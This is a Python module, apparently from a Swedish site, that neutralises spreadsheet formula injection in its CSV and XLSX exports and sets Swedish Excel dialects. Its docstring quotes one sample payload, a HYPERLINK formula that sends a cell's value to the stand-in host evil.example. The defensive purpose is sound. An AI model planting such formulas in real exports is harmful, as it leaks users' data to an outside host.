"""Cells that a spreadsheet cannot evaluate: the one rule for every CSV and XLSX the site writes.

Free text (footnotes, sources, status reports) is typed by reporters and exported before anyone has
approved it. A text beginning with =, +, -, @, a tab or a carriage return is a formula to Excel and
LibreOffice (`=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")`), so such a text gets a leading
apostrophe (OWASP's rule for CSV injection). Numbers, dates and None pass through unchanged, so a
negative number stays a number. Lives in reporting/ because indicators, actions and reports all
export, and reporting is below all three.

A CSV is read by a program that chooses its own separator: Swedish Excel splits on ";", most
other tools on ",". A text `ok;=1+1;x` is harmless as one field but becomes the cell `=1+1` where the
program splits it, so every piece after a ";" or "," is judged like the start of the text. Every
CSV also quotes every field (`csv_writer`), and files meant for Excel use its Swedish dialect.
"""

import csv
import io
import re

from import_export.formats.base_formats import CSV, XLSX
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number written as text ("-1.5" in the long format's value column) is not a formula and
# must stay readable as a number.
PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")


# Where a spreadsheet program may split a text into cells when it reads a CSV.
SEPARATORS = re.compile(r"([;,])")


def _evaluated(piece):
    return piece.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(piece.strip())


def neutralise(value):
    """A text a spreadsheet would evaluate, prefixed with an apostrophe; anything else unchanged.

    The one rule for every CSV and XLSX cell. Also each piece after a ";" or "," that would start a
    cell when a program splits the text there (`ok;=1+1;x` → `ok;'=1+1;x`). Applying it twice
    changes nothing more."""
    if not isinstance(value, str):
        return value
    if PLAIN_NUMBER.match(value):
        return value
    pieces = SEPARATORS.split(value)
    for index in range(0, len(pieces), 2):
        piece = pieces[index]
        stripped = piece.lstrip(" ") if index else piece
        if _evaluated(stripped):
            pieces[index] = piece[: len(piece) - len(stripped)] + "'" + stripped
    return "".join(pieces)


def neutralise_row(values):
    return [neutralise(value) for value in values]


def spreadsheet_text(value):
    """A text for a spreadsheet cell: neutralised, without the characters XML cannot hold
    (openpyxl would refuse the whole file)."""
    return ILLEGAL_CHARACTERS_RE.sub("", neutralise(str(value)))


def xlsx_row(sheet, values):
    """Cells for a write-only openpyxl sheet: text as text (never a formula), numbers as numbers.

    openpyxl turns any string starting with "=" into a formula cell; the type is set explicitly
    after neutralising so that no text can become one; characters XML cannot hold are dropped."""
    cells = []
    for value in values:
        if isinstance(value, str):
            value = spreadsheet_text(value)
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


class ExcelSwedish(csv.excel):
    """The CSV that Swedish Excel opens with a double click: ";" between fields (the list separator
    where "," is the decimal sign), every field quoted, CRLF. Written as UTF-8 with a BOM (BOM below),
    without which Excel reads the file as Windows-1252 and garbles å, ä and ö."""

    delimiter = ";"
    quoting = csv.QUOTE_ALL


class CommaQuoted(csv.excel):
    """The comma file other tools expect (R, pandas, LibreOffice in English), every field quoted."""

    quoting = csv.QUOTE_ALL


BOM = "\ufeff"


def csv_writer(file, dialect=CommaQuoted):
    """A csv writer whose every row goes through neutralise(): the one way the site writes a CSV."""
    return _NeutralisingWriter(csv.writer(file, dialect=dialect))


class _NeutralisingWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class QuotedCSV(CSV):
    """import-export's CSV export written through csv_writer: every field quoted and neutralised
    (the resources neutralise their own text too; applying the rule again changes nothing)."""

    dialect = CommaQuoted
    prefix = ""

    def export_data(self, dataset, **kwargs):
        out = io.StringIO()
        writer = csv_writer(out, dialect=self.dialect)
        if dataset.headers:
            writer.writerow(dataset.headers)
        writer.writerows(dataset)
        return self.prefix + out.getvalue()


class ExcelSwedishCSV(QuotedCSV):
    """The same export as a CSV for Swedish Excel (";", UTF-8 with a BOM)."""

    dialect = ExcelSwedish
    prefix = BOM

    def get_title(self):
        return "csv (Excel, semikolon)"


# The admin's export formats, for every model that exports: the comma file first (it is what the
# import reads back), then the workbook and the file for Swedish Excel.
EXPORT_FORMATS = [QuotedCSV, XLSX, ExcelSwedishCSV]
